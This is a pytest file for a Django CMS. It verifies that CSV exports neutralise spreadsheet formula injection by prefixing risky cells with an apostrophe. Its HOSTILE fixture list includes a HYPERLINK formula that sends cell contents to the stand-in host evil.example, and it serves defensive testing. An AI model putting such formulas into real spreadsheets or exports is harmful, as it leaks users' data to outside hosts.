"""Every CSV export neutralises formula injection: a text cell starting with
= + - @ a tab or a carriage return gets an apostrophe (spreadsheets hide it),
through one writer (cms.spreadsheets)."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse
from wagtail.models import Page

from cms.models import Office, Region
from cms.spreadsheets import cell_guard, cell_unguard
from publishers.newsletter.addresses import email_key
from publishers.newsletter.models import Subscriber
from translation.budget import month_start
from translation.glossary_csv import glossary_export_csv, glossary_import_csv
from translation.models import GlossaryTerm, UsageRecord

pytestmark = pytest.mark.django_db

PROJECT = Path(__file__).resolve().parent.parent.parent
PACKAGES = ("cms", "publishers", "scrapers", "translation")
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\tcmd",
    "\rcmd",
]


def cells(text: str) -> list[str]:
    return [
        cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row
    ]


def assert_guarded(text: str) -> None:
    found = cells(text)
    for value in HOSTILE:
        assert value not in found, value
        assert "'" + value in found, value


def test_cells_are_guarded_and_numbers_left_alone():
    for value in HOSTILE:
        assert cell_guard(value) == "'" + value
        assert cell_unguard(cell_guard(value)) == value
    assert cell_guard(-5) == -5
    assert cell_guard("plain") == "plain"
    assert cell_unguard("'plain") == "'plain"


def test_no_csv_is_written_but_through_the_one_writer():
    raw = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(PROJECT))
        for package in PACKAGES
        for path in (PROJECT / package).rglob("*.py")
        if path.name != "spreadsheets.py" and raw.search(path.read_text())
    ]
    assert offenders == []
    exporting = [
        str(path.relative_to(PROJECT))
        for package in PACKAGES
        for path in (PROJECT / package).rglob("*.py")
        if "list_export" in (text := path.read_text())
        and "SafeCSVExportMixin" not in text
    ]
    assert exporting == []


def test_the_glossary_export_is_guarded_and_reads_back(db):
    GlossaryTerm.objects.all().delete()
    for number, value in enumerate(HOSTILE):
        GlossaryTerm.objects.create(
            source_language="en",
            source_term=f"term {number}",
            target_term="用語",
            note=value,
        )
    exported = glossary_export_csv()
    assert_guarded(exported)
    glossary_import_csv(text=exported, replace=True)
    assert sorted(GlossaryTerm.objects.values_list("note", flat=True)) == sorted(
        HOSTILE
    )


@pytest.fixture
def admin_client(client):
    client.force_login(get_user_model().objects.filter(is_superuser=True).first())
    return client


def test_the_usage_ledger_export_is_guarded(admin_client):
    office = Office.objects.get(code="par")
    pages = list(Page.objects.filter(depth__gt=1).order_by("pk")[: len(HOSTILE)])
    for page, value in zip(pages, HOSTILE, strict=True):
        Page.objects.filter(pk=page.pk).update(title=value)
        UsageRecord.objects.create(
            month=month_start(),
            office=office,
            page_id=page.pk,
            source_language="fr",
            target_language="ja",
            billed_characters=10,
            backend="memory",
            origin="job",
        )
    response = admin_client.get(reverse("translation_usage_csv"))
    assert response.status_code == 200
    assert_guarded(response.content.decode())


def test_the_subscribers_export_is_guarded(admin_client):
    for number, value in enumerate(HOSTILE):
        email = f"csv{number}@city.example.jp"
        subscriber = Subscriber.objects.create(
            email=email,
            email_key=email_key(email),
            organisation=value,
            status=Subscriber.Status.SUBSCRIBED,
            consent_version="2026-11",
        )
        subscriber.regions.set(Region.objects.all()[:1])
    response = admin_client.get("/admin/newsletter_subscribers/", {"export": "csv"})
    assert response.status_code == 200
    assert_guarded(b"".join(response.streaming_content).decode())
